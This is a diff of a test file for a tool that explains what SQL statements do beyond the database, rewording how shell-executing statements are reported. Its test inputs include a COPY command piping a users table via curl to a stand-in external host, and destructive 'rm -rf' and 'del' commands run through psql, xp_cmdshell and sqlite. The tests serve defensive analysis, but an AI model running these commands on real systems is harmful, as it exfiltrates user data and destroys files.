@@ -67,14 +67,20 @@ describe("what SQL does beyond plain statements", () => {
   describe("outside of the database", () => {
     t(
       "COPY users TO PROGRAM 'curl -d @- https://x.example'",
-      "execute program curl -d @- https://x.example",
+      "unknown dynamic: the statement runs `curl -d @- https://x.example` on the database server, which is not looked into",
     );
     t("COPY users TO '/tmp/users.csv'", "overwrite /tmp/users.csv");
     t("COPY users FROM STDIN");
     t("\\copy users to 'out.csv' csv header", "overwrite /w/out.csv");
     t("\\copy (select 1) to stdout");
-    t("\\copy users from program 'cat x'", "execute program cat x");
-    t("\\! rm -rf build", "execute program rm -rf build");
+    t(
+      "\\copy users from program 'cat x'",
+      "unknown dynamic: the statement runs `cat x` on this machine, which is not looked into",
+    );
+    t(
+      "\\! rm -rf build",
+      "unknown dynamic: the statement runs `rm -rf build` on this machine, which is not looked into",
+    );
     t("SELECT 1; \\o out.txt\nSELECT 2;", "overwrite /w/out.txt");
     t("\\i drop.sql", "drop table from_file in app on localhost (irreversible)");
     t("\\i missing.sql", "execute /w/missing.sql");
@@ -85,7 +91,11 @@ describe("what SQL does beyond plain statements", () => {
     );
     t("\\c other\nDROP TABLE a", "drop table a in other on localhost (irreversible)");
     t("\\dt\n\\d+ users\nSELECT 1;");
-    inDialect("any", "EXEC xp_cmdshell 'del c:\\x'", "execute program del c:\\x");
+    inDialect(
+      "any",
+      "EXEC xp_cmdshell 'del c:\\x'",
+      "unknown dynamic: the statement runs `del c:\\x` on the database server, which is not looked into",
+    );
   });
 
   describe("dialects", () => {
@@ -160,7 +170,7 @@ describe("what SQL does beyond plain statements", () => {
     inDialect(
       "sqlite",
       ".shell rm x\n.read drop.sql\n.output o.txt\n.tables",
-      "execute program rm x",
+      "unknown dynamic: the statement runs `rm x` on this machine, which is not looked into",
       "drop table from_file in app on localhost (irreversible)",
       "overwrite /w/o.txt",
     );
@@ -208,7 +218,7 @@ describe("what SQL does beyond plain statements", () => {
     on(
       "host=prod-1.x dbname=shop",
       "DELETE FROM a WHERE id = 1",
-      "delete rows of a in shop on prod-1.x (irreversible)",
+      "change rows of a in shop on prod-1.x (irreversible)",
     );
     on(
       "postgres://nonprod.example.com/products",
